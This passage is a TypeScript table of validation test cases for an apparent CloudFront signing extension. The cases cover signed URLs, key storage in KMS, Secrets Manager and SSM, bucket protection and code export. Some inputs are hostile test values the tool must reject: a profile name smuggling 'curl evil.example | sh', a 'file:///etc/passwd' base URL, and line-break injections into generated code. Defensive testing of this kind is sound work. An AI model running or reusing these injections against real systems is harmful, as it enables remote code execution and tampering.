    expect: { rejects: 'resource has the host "media example.com", which contains " ": no URL a browser sends has such a host, so the pattern could never match.', input: 'resource' },
  },
  {
    case: "a cookie domain the resource's host is not in",
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: 'media.example.com', copy: false },
    expect: {
      rejects:
        "The cookie domain media.example.com does not cover the resource's host {domain}: browsers send the cookies only to media.example.com and its subdomains, where the resource https://{domain}/paid/* never matches, so CloudFront would refuse every request. Use a resource on media.example.com (https://media.example.com/paid/*) or the domain {domain}.",
      input: 'domain',
    },
  },
  {
    case: 'a resource with a fragment',
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*#top', keyPairId: '{signerKeyId}', expires: FUTURE, copy: false },
    expect: { rejects: 'resource contains #; request URLs never carry a fragment, so the pattern could never match.', input: 'resource' },
  },
  {
    case: 'no document open',
    command: signSelection,
    args: { expires: FUTURE },
    setup: 'noEditor',
    expect: { rejects: 'Open the document whose URLs you want to sign first.', input: 'editor' },
  },
  {
    case: 'no expiry',
    command: signSelection,
    args: { keyPairId: '{signerKeyId}' },
    setup: 'document',
    expect: { succeeds: "Signs the document's URLs for one hour from now, as Sign CloudFront URL and Create Signed Cookies do without expires." },
  },
  {
    case: 'a base URL that is not http(s)',
    command: signSelection,
    args: { expires: FUTURE, baseUrl: 'file:///etc/passwd' },
    setup: 'document',
    expect: { rejects: 'Use an http or https URL', input: 'baseUrl' },
  },

  // Choose AWS Profile.
  {
    case: 'a profile that does not exist',
    command: chooseProfile,
    args: { profile: 'no-such-profile' },
    expect: {
      rejects: 'No AWS profile named "no-such-profile" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
      input: 'profile',
    },
  },
  {
    case: 'a profile name with shell text',
    command: chooseProfile,
    args: { profile: 'dev; curl evil.example | sh' },
    expect: {
      rejects: 'No AWS profile named "dev; curl evil.example | sh" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
      input: 'profile',
    },
  },

  // Diagnose Signed URL.
  {
    case: 'no URL',
    command: diagnoseUrl,
    args: { url: '  ' },
    expect: { rejects: 'url is required: pass the signed URL to diagnose.', input: 'url' },
  },
  {
    case: 'cookies that are not text',
    command: diagnoseUrl,
    args: { url: paidUrl, cookies: ['CloudFront-Policy=x'] },
    expect: { rejects: 'cookies must be a string.', input: 'cookies' },
  },
  {
    case: 'a signed URL without Key-Pair-Id',
    command: diagnoseUrl,
    args: { url: 'https://{domain}/paid/a.mp4?Expires=4070908800&Signature=abc' },
    expect: { finding: { code: 'MissingKey', message: 'The URL has no Key-Pair-Id parameter; CloudFront answers MissingKey.' } },
  },
  {
    case: 'a signature copied onto another path',
    command: diagnoseUrl,
    args: { url: '{tamperedUrl}' },
    expect: {
      finding: {
        code: 'SignatureMismatch',
        message:
          "The signature does not verify with CloudFront's public key {signerKeyId} (a 2048-bit RSA key, SHA256) over the canned policy: the URL or expiry changed after signing, or another private key signed it. CloudFront answers AccessDenied.",
      },
    },
  },

  // Protect S3 Bucket with CloudFront: refused before anything is created.
  {
    case: 'a bucket that does not exist',
    command: 'cloudfront.protectBucket',
    args: { bucket: 'cfpc-no-such-bucket', newKey: { name: 'protect-missing-bucket', algorithm: 'RSA_2048' } },
    expect: { rejects: 'bucket: there is no S3 bucket cfpc-no-such-bucket.', input: 'bucket' },
  },
  {
    case: 'a key storage that does not exist (newKey.keyStorage)',
    command: 'cloudfront.protectBucket',
    args: { bucket: 'cfpc-no-such-bucket', newKey: { name: 'protect-ssm', algorithm: 'ECDSA_P256', keyStorage: 'ssm' } },
    expect: { rejects: KEY_STORAGE_RULE, input: 'newKey.keyStorage' },
  },
  {
    case: 'a path pattern with a space and braces (CloudFront has no {a,b} alternation)',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{bucket}', pathPattern: 'private files/*.{pdf}', newKey: { name: 'protect-bad-pattern', algorithm: 'RSA_2048' } },
    expect: {
      rejects:
        'pathPattern: CloudFront does not take ␠ { } in a path pattern (private files/*.{pdf}). Use letters, digits, _ - . $ / ~ " \' @ : + , & and the wildcards * (any characters) and ? (one character), for example /private-files/*.pdf.',
      input: 'pathPattern',
    },
  },
  {
    case: 'a path pattern longer than 255 characters',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{bucket}', pathPattern: `/${'a'.repeat(255)}`, newKey: { name: 'protect-long-pattern', algorithm: 'RSA_2048' } },
    expect: { rejects: 'pathPattern: The path pattern has 256 characters; CloudFront takes at most 255.', input: 'pathPattern' },
  },
  {
    case: 'both an existing key and a new key pair',
    command: 'cloudfront.protectBucket',
    args: { bucket: 'cfpc-no-such-bucket', keyPairId: '{signerKeyId}', newKey: { name: 'protect-both', algorithm: 'RSA_2048' } },
    expect: { rejects: 'Pass either keyPairId (an existing public key) or newKey (a new key pair).', input: 'keyPairId' },
  },
  {
    case: 'a misspelt option',
    command: 'cloudfront.protectBucket',
    args: { bucket: 'cfpc-no-such-bucket', keypairId: '{signerKeyId}' },
    expect: {
      rejects: 'keypairId is not an option of this command; it takes bucket, distributionId, pathPattern, keyPairId, newKey, keyGroupId, keyGroupName, wait.',
      input: 'keypairId',
    },
  },

  // Close Public Access (a bucket row's fix, and the end of Protect).
  {
    case: 'no bucket',
    command: 'cloudfront.closePublicAccess',
    args: {},
    expect: { rejects: 'bucket is required: the name of the S3 bucket to close.', input: 'bucket' },
  },
  {
    case: 'a misspelt option',
    command: 'cloudfront.closePublicAccess',
    args: { bucketName: '{bucket}' },
    expect: { rejects: 'bucketName is not an option of this command; it takes bucket.', input: 'bucketName' },
  },

  // Generate Signing Code and Export as Infrastructure Code: each input they refuse.
  codegenRow('a public key that does not exist', { publicKeyId: 'K000NOSUCHKEY', language: 'python' }, 'publicKeyId: no public key K000NOSUCHKEY in this account.', 'publicKeyId'),
  codegenRow('no language', { publicKeyId: '{signerKeyId}' }, `language is required: one of ${LANGUAGES}.`, 'language'),
  codegenRow('an unknown language', { publicKeyId: '{signerKeyId}', language: 'rust' }, `language must be one of ${LANGUAGES}.`, 'language'),
  codegenRow('an unknown kind', { publicKeyId: '{signerKeyId}', language: 'go', kind: 'header' }, "kind must be 'url' or 'cookies'.", 'kind'),
  codegenRow('a key source of an unknown kind', { publicKeyId: '{signerKeyId}', language: 'go', keySource: { kind: 'vault', path: 'secret/cf' } }, KEY_SOURCES, 'keySource.kind'),
  codegenRow('a key source that is a string', { publicKeyId: '{signerKeyId}', language: 'go', keySource: 'env' }, KEY_SOURCES, 'keySource'),
  codegenRow(
    'an environment variable name with a hyphen',
    { publicKeyId: '{signerKeyId}', language: 'java', keySource: { kind: 'env', variable: 'CF-KEY' } },
    'keySource.variable must be an environment variable name.',
    'keySource.variable',
  ),
  codegenRow('an empty KMS key id', { publicKeyId: '{signerKeyId}', language: 'csharp', keySource: { kind: 'kms', keyId: '  ' } }, 'keySource.keyId must not be empty.', 'keySource.keyId'),
  codegenRow(
    'a key file path with a line break',
    { publicKeyId: '{signerKeyId}', language: 'python', keySource: { kind: 'file', path: 'keys/a.pem\nimport os' } },
    'keySource.path must be one line of text, without control characters.',
    'keySource.path',
  ),
  codegenRow(
    'an example URL with a fragment (the generated code would sign another URL than clients send)',
    { publicKeyId: '{signerKeyId}', language: 'python', example: 'https://d111111abcdef8.cloudfront.net/a.txt#top' },
    'example: url has a fragment (#...). Clients never send fragments, so CloudFront would check the signature against a different URL; remove it from the URL to sign and add it to the signed URL afterwards if a page needs it.',
    'example',
  ),
  codegenRow(
    'an example cookie resource with an ftp scheme',
    { publicKeyId: '{signerKeyId}', language: 'javascript', kind: 'cookies', example: 'ftp://d111111abcdef8.cloudfront.net/*' },
    'example: resource uses the scheme ftp; CloudFront signed URLs work only with http, https, ws and wss.',
    'example',
  ),
  codegenRow(
    'a secret name with a lone UTF-16 surrogate, for Go (no Go string can hold it)',
    { publicKeyId: '{signerKeyId}', language: 'go', keySource: { kind: 'secretsManager', secretId: 'cloudfront/\ud800key' } },
    'keySource.secretId holds a lone UTF-16 surrogate (U+D800), which no UTF-8 text can hold: a Go string cannot carry it. Remove it or write the character it was part of.',
    'keySource.secretId',
  ),
  codegenRow(
    'an SSM parameter name that is a number',
    { publicKeyId: '{signerKeyId}', language: 'typescript', keySource: { kind: 'ssm', parameterName: 7 } },
    'keySource.parameterName must be a string.',
    'keySource.parameterName',
  ),
  {
    case: 'a distribution that does not exist',
    command: exportInfrastructure,
    args: { distributionId: 'E000NOSUCHDIST', format: 'terraform' },
    expect: { rejects: 'distributionId: no distribution E000NOSUCHDIST in this account.', input: 'distributionId' },
  },
  { case: 'no distribution', command: exportInfrastructure, args: { format: 'cdk' }, expect: { rejects: 'distributionId is required.', input: 'distributionId' } },
  {
    case: 'no format',
    command: exportInfrastructure,
    args: { distributionId: '{distributionId}' },
    expect: { rejects: 'format is required: one of cloudformation, cdk, terraform.', input: 'format' },
  },
  {
    case: 'a format in capitals',
    command: exportInfrastructure,
    args: { distributionId: '{distributionId}', format: 'Terraform' },
    expect: { rejects: 'format must be one of cloudformation, cdk, terraform.', input: 'format' },
  },
  {
    case: 'a private key kept in a file',
    command: exportInfrastructure,
    args: { distributionId: '{distributionId}', format: 'cloudformation', privateKeys: { '{signerKeyId}': { kind: 'file', path: 'key.pem' } } },
    expect: { rejects: PRIVATE_KEYS, input: 'privateKeys.{signerKeyId}.kind' },
  },
  {
    case: 'a distribution with nothing private (no trusted key group, no origin access control)',
    command: exportInfrastructure,
    args: { distributionId: '{openDistributionId}', format: 'cdk' },
    expect: {
      rejects:
        'distributionId: distribution {openDistributionId} has no private content to export: no behavior trusts a key group and no origin uses an origin access control. Restrict a behavior first ("CloudFront: Protect S3 Bucket with CloudFront", or trusted key groups in the console), then export.',
      input: 'distributionId',
    },
  },
  {
    case: 'a KMS key id with a line break (it would end a comment of the export)',
    command: exportInfrastructure,
    args: { distributionId: '{distributionId}', format: 'terraform', privateKeys: { '{signerKeyId}': { kind: 'kms', keyId: 'alias/a\nresource "x" "y" {}' } } },
    expect: { rejects: 'privateKeys.<id>.keyId must be one line of text, without control characters.', input: 'privateKeys.{signerKeyId}.keyId' },
  },
  {
    case: 'an empty secret id',
    command: exportInfrastructure,
    args: { distributionId: '{distributionId}', format: 'cdk', privateKeys: { '{signerKeyId}': { kind: 'secretsManager', secretId: ' ' } } },
    expect: { rejects: 'privateKeys.<id>.secretId must not be empty.', input: 'privateKeys.{signerKeyId}.secretId' },
  },
  {
    case: "another account's bucket (S3 answers 403)",
    command: 'cloudfront.protectBucket',
    args: { bucket: '{bucket}', newKey: { name: 'protect-foreign', algorithm: 'RSA_2048' } },
    setup: 'bucketForbidden',
    expect: { rejects: 'bucket: bucket {bucket} belongs to another account, or this account may not read it.', input: 'bucket' },
  },
  // A bucket policy that cannot be kept exactly, or that the statement would take past S3's 20 KB:
  // refused before anything is created (badInputs.test.ts gives each bucket its policy).
  {
    case: 'a bucket policy of 20,400 bytes (compact): the statement would take it past 20 KB',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{bigPolicyBucket}', newKey: { name: 'protect-big-policy', algorithm: 'RSA_2048' } },
    expect: {
      rejects:
        "bucket: with the statement that lets CloudFront read it, the policy of bucket {bigPolicyBucket} would be 20,701 bytes, over S3's limit of 20,480 bytes (20 KB). Remove statements the bucket no longer needs, or combine statements for the same principal, then run Protect again.",
      input: 'bucket',
    },
  },
  {
    case: 'a bucket policy with a number beyond what a double holds (s3:max-keys 12345678901234567890)',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{numberPolicyBucket}', newKey: { name: 'protect-number-policy', algorithm: 'RSA_2048' } },
    expect: {
      rejects:
        'bucket: the policy of bucket {numberPolicyBucket} has the number 12345678901234567890 at Statement[0].Condition.NumericLessThanEquals.s3:max-keys, beyond what JSON numbers hold exactly (a double), so the policy cannot be read and kept exactly. Write it as a string ("12345678901234567890"). Then run Protect again.',
      input: 'bucket',
    },
  },
  {
    case: 'a bucket policy with a condition key twice (aws:SourceVpce)',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{duplicatePolicyBucket}', newKey: { name: 'protect-duplicate-policy', algorithm: 'RSA_2048' } },
    expect: {
      rejects:
        'bucket: the policy of bucket {duplicatePolicyBucket} has the key aws:SourceVpce twice in Statement[0].Condition.StringEquals: only one of them can take effect, and a changed policy could not keep both. Remove the one you do not mean. Then run Protect again.',
      input: 'bucket',
    },
  },
  {
    case: 'a distribution without that origin, and no permission to add it (UpdateDistribution denied)',
    command: 'cloudfront.protectBucket',
    args: { bucket: '{bucket}', distributionId: '{distributionId}', pathPattern: '/media/*', newKey: { name: 'protect-denied', algorithm: 'RSA_2048' } },
    setup: 'updateDenied',
    expect: {
      rejects: 'distributionId: bucket {bucket} is not an origin of distribution {distributionId}, and this profile may not add it (cloudfront:UpdateDistribution is denied).',
      input: 'distributionId',
    },
  },

  // The live checks connect where the user setting cloudfront.hostAddresses says; an entry that names no address is refused, not ignored.
  {
    case: 'a host mapped to no address in cloudfront.hostAddresses',
    command: diagnoseUrl,
    args: { url: paidUrl, live: true },
    setup: 'badHostAddresses',
    expect: {
      rejects:
        'cloudfront.hostAddresses: "{domain}" maps to no address: write "address[:port]", e.g. "203.0.113.10", "127.0.0.1:8443" or "[2001:db8::1]:443", or "http://127.0.0.1:8787" for a local edge without TLS (or { "address": …, "certificate": "/path/cert.pem" }). (user settings)',
      input: 'cloudfront.hostAddresses',
    },
  },

  // Verify Protection: only a restricted behavior that serves an S3 bucket can be verified.
  {
    case: 'a behavior that is not restricted',
    command: 'cloudfront.verifyProtection',
    args: { distributionId: '{distributionId}' },
    expect: {
      rejects: 'pathPattern: behavior Default (*) of distribution {distributionId} is not restricted to a key group, so there is nothing to verify: protect it first.',
      input: 'pathPattern',
    },
  },
  {
    case: 'a path pattern the distribution has no behavior for',
    command: 'cloudfront.verifyProtection',
    args: { distributionId: '{distributionId}', pathPattern: '/nothing/*' },
    expect: { rejects: 'pathPattern: distribution {distributionId} has no cache behavior /nothing/*.', input: 'pathPattern' },
  },
  {
    case: 'a misspelt option',
    command: 'cloudfront.verifyProtection',
    args: { distributionId: '{distributionId}', key: 'a.mp4' },
    expect: { rejects: 'key is not an option of this command; it takes distributionId, pathPattern, objectKey.', input: 'key' },
  },
  // Where a new key's private half lives (Create Key Pair; Rotate Key and Protect S3 Bucket take the same options).
  {
    case: 'a key storage that does not exist',
    command: createKeyPair,
    args: { name: 'key-ssm', algorithm: 'RSA_2048', keyGroupName: 'group-ssm', keyStorage: 'ssm' },
    expect: { rejects: KEY_STORAGE_RULE, input: 'keyStorage' },
  },
  {
    case: "a KMS key with keyStorage 'local'",
    command: createKeyPair,
    args: { name: 'key-kms-local', algorithm: 'RSA_2048', keyGroupName: 'group-kms-local', keyStorage: 'local', kmsKeyId: '{rsaKmsKeyId}' },
    expect: { rejects: "kmsKeyId: a KMS key holds the private key only with keyStorage 'kms' (here 'local'): pass keyStorage 'kms', or leave kmsKeyId out.", input: 'kmsKeyId' },
  },
  {
    case: 'a KMS key that does not exist',
    command: createKeyPair,
    args: { name: 'key-kms-missing', algorithm: 'RSA_2048', keyGroupName: 'group-kms-missing', keyStorage: 'kms', kmsKeyId: 'alias/cloudfront/no-such-key' },
    expect: { rejects: 'kmsKeyId: KMS key alias/cloudfront/no-such-key does not exist in this account and region.', input: 'kmsKeyId' },
  },
  {
    case: 'a symmetric KMS key (ENCRYPT_DECRYPT)',
    command: createKeyPair,
    args: { name: 'key-kms-symmetric', algorithm: 'RSA_2048', keyGroupName: 'group-kms-symmetric', keyStorage: 'kms', kmsKeyId: '{symmetricKmsKeyId}' },
    expect: {
      rejects: 'kmsKeyId: KMS key {symmetricKmsKeyId} is for ENCRYPT_DECRYPT, not SIGN_VERIFY: CloudFront needs a signing key (RSA_2048 or ECC_NIST_P256).',
      input: 'kmsKeyId',
    },
  },
  {
    case: 'an ECC_NIST_P384 KMS key',
    command: createKeyPair,
    args: { name: 'key-kms-p384', algorithm: 'ECDSA_P256', keyGroupName: 'group-kms-p384', keyStorage: 'kms', kmsKeyId: '{p384KmsKeyId}' },
    expect: { rejects: 'kmsKeyId: KMS key {p384KmsKeyId} is ECC_NIST_P384: CloudFront verifies only RSA_2048 and ECC_NIST_P256 keys.', input: 'kmsKeyId' },
  },
  {
    case: 'a disabled KMS key',
    command: createKeyPair,
    args: { name: 'key-kms-disabled', algorithm: 'RSA_2048', keyGroupName: 'group-kms-disabled', keyStorage: 'kms', kmsKeyId: '{disabledKmsKeyId}' },
    expect: { rejects: 'kmsKeyId: KMS key {disabledKmsKeyId} is Disabled: enable it in KMS (kms:EnableKey) to sign with it.', input: 'kmsKeyId' },
  },
  {
    case: 'a KMS key pending deletion',
    command: createKeyPair,
    args: { name: 'key-kms-pending', algorithm: 'RSA_2048', keyGroupName: 'group-kms-pending', keyStorage: 'kms', kmsKeyId: '{pendingKmsKeyId}' },
    expect: {
      rejects: 'kmsKeyId: KMS key {pendingKmsKeyId} is pending deletion ({pendingDeletionDate}): cancel the deletion in KMS (kms:CancelKeyDeletion) and enable the key to sign with it.',
      input: 'kmsKeyId',
    },
  },
  {
    case: "an algorithm that is not the KMS key's",
    command: createKeyPair,
    args: { name: 'key-kms-mismatch', algorithm: 'ECDSA_P256', keyGroupName: 'group-kms-mismatch', keyStorage: 'kms', kmsKeyId: '{rsaKmsKeyId}' },
    expect: { rejects: 'algorithm: KMS key {rsaKmsKeyId} is RSA_2048, not ECC_NIST_P256: pass algorithm RSA_2048 with it, or another KMS key.', input: 'algorithm' },
  },
  {
    case: 'the name of a secret that exists',
    command: createKeyPair,
    args: { name: 'key-secret-taken', algorithm: 'RSA_2048', keyGroupName: 'group-secret-taken', keyStorage: 'secretsManager', secretName: '{existingSecretName}' },
    expect: { rejects: 'secretName: a secret named {existingSecretName} already exists in Secrets Manager: choose another secretName.', input: 'secretName' },
  },
  {
    case: 'a KMS key for a secret without keyStorage secretsManager',
    command: createKeyPair,
    args: { name: 'key-secret-kms', algorithm: 'RSA_2048', keyGroupName: 'group-secret-kms', keyStorage: 'kms', secretKmsKeyId: 'alias/aws/secretsmanager' },
    expect: {
      rejects: "secretKmsKeyId: it applies only with keyStorage 'secretsManager' (here 'kms'): pass keyStorage 'secretsManager', or leave secretKmsKeyId out.",
      input: 'secretKmsKeyId',
    },
  },
  {
    case: 'hashAlgorithm SHA1 with a key held by AWS KMS',
    command: signUrl,
    args: { url: 'https://{domain}/kms/a.mp4', keyPairId: '{kmsSignerKeyId}', hashAlgorithm: 'SHA1', expires: FUTURE, copy: false },
    expect: { rejects: 'hashAlgorithm SHA1 cannot be used here: the key is held by AWS KMS ({kmsSignerAlias}), which signs with SHA-256 only. Use SHA256.', input: 'hashAlgorithm' },
  },

  // Link Key Kept in AWS, Export Private Key to Secrets Manager, and deleting keys kept in AWS.
  ...[{}, { kmsKeyId: '{kmsKeyId}', secretId: '{noPemSecret}' }].map((sources) => ({
    case: Object.keys(sources).length ? 'two places at once' : 'no place for the private key',
    command: linkKey,
    args: { publicKeyId: '{signerKeyId}', ...sources },
    expect: {
      rejects: 'Pass exactly one of kmsKeyId (an AWS KMS key), secretId (a Secrets Manager secret) or parameterName (an SSM SecureString parameter).',
      input: 'kmsKeyId',
    },
  })),
  {
    case: 'a KMS key that is not the private half of the public key',
    command: linkKey,
    args: { publicKeyId: '{signerKeyId}', kmsKeyId: '{kmsKeyId}' },
    expect: { rejects: 'publicKeyId: public key {signerKeyId} in CloudFront is not the public half of the key in {kmsKeyId}.', input: 'publicKeyId' },
  },
  {
    case: 'a disabled KMS key',
    command: linkKey,
    args: { kmsKeyId: '{disabledKmsKeyId}' },
    expect: { rejects: 'KMS key {disabledKmsKeyId} is Disabled: enable it in KMS (kms:EnableKey) to sign with it.', input: 'kmsKeyId' },
  },
  {
    case: 'a KMS key pending deletion',
    command: linkKey,
    args: { kmsKeyId: '{pendingKmsKeyId}' },
    expect: {
      rejects: 'KMS key {pendingKmsKeyId} is pending deletion ({pendingDeletionDate}): cancel the deletion in KMS (kms:CancelKeyDeletion) and enable the key to sign with it.',
      input: 'kmsKeyId',
    },
  },
  {
    case: 'a KMS key of a spec CloudFront cannot verify',
    command: linkKey,
    args: { kmsKeyId: '{rsa3072KmsKeyId}' },
    expect: { rejects: 'KMS key {rsa3072KmsKeyId} is RSA_3072: CloudFront verifies only RSA_2048 and ECC_NIST_P256 keys.', input: 'kmsKeyId' },
  },
  {
    case: 'a KMS key for encryption, not signing',
    command: linkKey,
    args: { kmsKeyId: '{symmetricKmsKeyId}' },
    expect: { rejects: 'KMS key {symmetricKmsKeyId} is for ENCRYPT_DECRYPT, not SIGN_VERIFY: CloudFront needs a signing key (RSA_2048 or ECC_NIST_P256).', input: 'kmsKeyId' },
  },
  {
    case: 'a secret that holds no PEM',
    command: linkKey,
    args: { secretId: '{noPemSecret}' },
    expect: { rejects: 'Secrets Manager secret {noPemSecret} holds no PEM private key (-----BEGIN PRIVATE KEY----- …): store the PEM text itself.', input: 'secretId' },
  },
  {
    case: "a linked secret that now holds another key's PEM",
    command: signUrl,
    args: { ...sign({ keyPairId: '{secretLinkedKeyId}' }), url: 'https://{domain}/linked/a.mp4' },
    expect: {
      rejects: "Secrets Manager secret {linkedSecretArn} holds another key's PEM: its public key does not match the CloudFront public key it is linked to.",
      input: 'keyPairId',
    },
  },
  {
    case: 'a parameter that is not a SecureString',
    command: linkKey,
    args: { parameterName: '{stringParameter}' },
    expect: { rejects: 'SSM parameter {stringParameter} is a String parameter: a private key must be kept in a SecureString parameter (encrypted with KMS).', input: 'parameterName' },
  },
  {
    case: 'a secret that does not exist',
    command: linkKey,
    args: { secretId: 'cfpc-no-such-secret' },
    expect: { rejects: 'Secrets Manager secret cfpc-no-such-secret does not exist in this account and region.', input: 'secretId' },
  },
  {
    case: 'a parameter that does not exist',
    command: linkKey,
    args: { parameterName: '/cfpc/no-such-parameter' },
    expect: { rejects: 'SSM parameter /cfpc/no-such-parameter does not exist in this account and region.', input: 'parameterName' },
  },
  {
    case: 'a secret name already taken',
    command: exportPrivateKey,
    args: { publicKeyId: '{signerKeyId}', secretName: '{noPemSecret}' },
    expect: { rejects: 'secretName: a secret named {noPemSecret} already exists in Secrets Manager; choose another name.', input: 'secretName' },
  },
  {
    case: 'a key whose private half is not on this machine',
    command: exportPrivateKey,
    args: { publicKeyId: '{kmsLinkedKeyId}', secretName: 'cfpc/never-created' },
    expect: { rejects: 'publicKeyId: the private key of {kmsLinkedKeyId} is kept in {kmsKeyId}, not on this machine; there is nothing here to export.', input: 'publicKeyId' },
  },
  {
    case: 'both a file and a secret',
    command: exportPrivateKey,
    args: { publicKeyId: '{signerKeyId}', uri: '/tmp/never-written.pem', secretName: 'cfpc/never-created' },
    expect: { rejects: 'Pass either uri (a file to write) or secretName (a new Secrets Manager secret).', input: 'uri' },
  },
  {
    case: 'deleteKmsKey for a key not kept in KMS',
    command: 'cloudfront.deleteLocalKey',
    args: { publicKeyId: '{signerKeyId}', deleteKmsKey: true },
    expect: { rejects: 'deleteKmsKey: the private key of {signerKeyId} is not kept in an AWS KMS key.', input: 'deleteKmsKey' },
  },

  // Private streams: what no player could play, and a key the stream's behavior does not trust.
  {
    case: 'a URL that is not a playlist',
    command: planStream,
    args: { url: 'https://{streamDomain}/streams/not-a-playlist.m3u8' },
    expect: {
      rejects: "https://{streamDomain}/streams/not-a-playlist.m3u8 is neither an HLS playlist (#EXTM3U) nor a DASH manifest (<MPD>): pass the URL of the stream's .m3u8 or .mpd.",
      input: 'url',
    },
  },
  {
    case: 'a playlist that loops (its variant is itself)',
    command: planStream,
    args: { url: 'https://{streamDomain}/streams/loop.m3u8' },
    expect: {
      rejects:
        'https://{streamDomain}/streams/loop.m3u8 names https://{streamDomain}/streams/loop.m3u8, which is a master playlist (itself): a player would loop. Point each EXT-X-STREAM-INF and EXT-X-MEDIA URI at a media playlist.',
      input: 'url',
    },
  },
  {
    case: 'a billion-segment DASH template',
    command: planStream,
    args: { url: 'https://{streamDomain}/streams/billion.mpd' },
    expect: {
      rejects:
        'https://{streamDomain}/streams/billion.mpd describes more than 200,000 segment requests (1,000,000,000 in one Representation): check its SegmentTemplate duration, timescale and mediaPresentationDuration, or plan with a larger maxRequests.',
      input: 'url',
    },
  },
  {
    case: 'a URL on no distribution',
    command: planStream,
    args: { url: 'https://nowhere.example.com/hls/master.m3u8' },
    expect: {
      rejects:
        'No distribution of this account serves nowhere.example.com: pass a URL on one of its distributions (domain name or alternate domain name), or choose the profile of the account that owns it.',
      input: 'url',
    },
  },
  {
    case: 'a key the behavior does not trust',
    command: signStream,
    args: { url: 'https://{streamDomain}/streams/ok.m3u8', strategy: 'cookies', expires: FUTURE, keyPairId: '{kmsSignerKeyId}' },
    expect: { rejects: 'Key {kmsSignerKeyId} cannot sign {streamDistributionId}, behavior /streams/*: not in a key group that /streams/* trusts ({signerGroupName}).', input: 'keyPairId' },
  },

  // Every command: an options object of the wrong shape.
  ...WRONG_SHAPE,
];

/** `{name}` placeholders of a value, filled from `values` (strings only; other values pass through). */
export function fillPlaceholders<T>(value: T, values: Readonly<Record<string, string>>): T {
  if (typeof value === 'string') {
    return value.replace(/\{([A-Za-z0-9]+)\}/g, (whole, name: string) => (name in values ? values[name] : whole)) as T;
  }
  if (Array.isArray(value)) return value.map((item: unknown) => fillPlaceholders(item, values)) as T;
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, fillPlaceholders(item, values)])) as T;
  }
  return value;
}
